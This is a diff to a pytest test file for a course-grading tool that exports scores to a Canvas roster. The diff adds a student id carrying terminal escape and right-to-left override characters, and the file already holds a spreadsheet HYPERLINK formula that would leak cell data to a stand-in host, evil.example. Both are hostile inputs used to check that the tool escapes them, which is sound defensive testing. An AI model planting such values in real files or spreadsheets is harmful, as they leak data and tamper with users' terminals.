@@ -25,6 +25,7 @@ from grader import lms as lms_mod
 from grader.jobs import BatchFolders
 
 TINY = Path(__file__).resolve().parent / "tiny_lab" / "course.toml"
+EVIL = "s\x1b[2Jevil\u202e"  # a student id (a folder name) that would clear the TA's terminal
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
@@ -47,7 +48,7 @@ def _graded(course, folders: BatchFolders, sid: str, auto: dict[str, float | Non
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
     """s001: every test, and a written answer a TA scored 0.5; s002: lost check_topk, answer
-    waiting; s003: graded but in no roster. Totals: s001 3.5, s002 2."""
+    waiting; s003 and EVIL: graded but in no roster. Totals: s001 3.5, s002 2."""
     course = course_mod.load(TINY)
     out = tmp_path_factory.mktemp("lms")
     folders = BatchFolders(out)
@@ -55,6 +56,7 @@ def graded(tmp_path_factory):
     _graded(course, folders, "s001", {"check_normalize": 2.0, "check_topk": 1.0, "written_why": None})
     _graded(course, folders, "s002", {"check_normalize": 2.0, "check_topk": 0.0, "written_why": None})
     _graded(course, folders, "s003", {"check_normalize": 0.0, "check_topk": 1.0, "written_why": 0.0})
+    _graded(course, folders, EVIL, {"check_normalize": 0.0, "check_topk": 0.0, "written_why": 0.0})
     with Gradebook(score.db_url(folders.main_db)) as gb:
         grade = gb.find_grade("written_why", course.notebook, course.assignment, "s001")
         grade.manual_score, grade.needs_manual_grade = 0.5, False
@@ -108,7 +110,8 @@ def test_canvas_roster_comes_back_with_the_totals_and_its_own_shape(graded, tmp_
     assert by_login["s002"][0] == "'" + FORMULA and by_login["s002"][4] == 'The "B" section'
     assert [row[6:] for row in rows[2:]] == [row[6:] for row in CANVAS_ROWS[2:]]
     said = proc.stdout
-    assert "filled for 2 students" in said and "1 graded students are not in the roster" in said and "s003" in said
+    assert "filled for 2 students" in said and "2 graded students are not in the roster" in said and "s003" in said
+    assert "s\\x1b[2Jevil\\u202e" in said and "\x1b" not in said + proc.stderr and "\u202e" not in said
     assert "2 roster rows have no graded submission" in said and "s004" in said and "Test Student" in said
     grades = {r["student_id"]: r for r in csv.DictReader(open(out / "grades.csv"))}
     assert float(grades["s001"]["score"]) == 3.5, "the LMS file agrees with nbgrader's export"
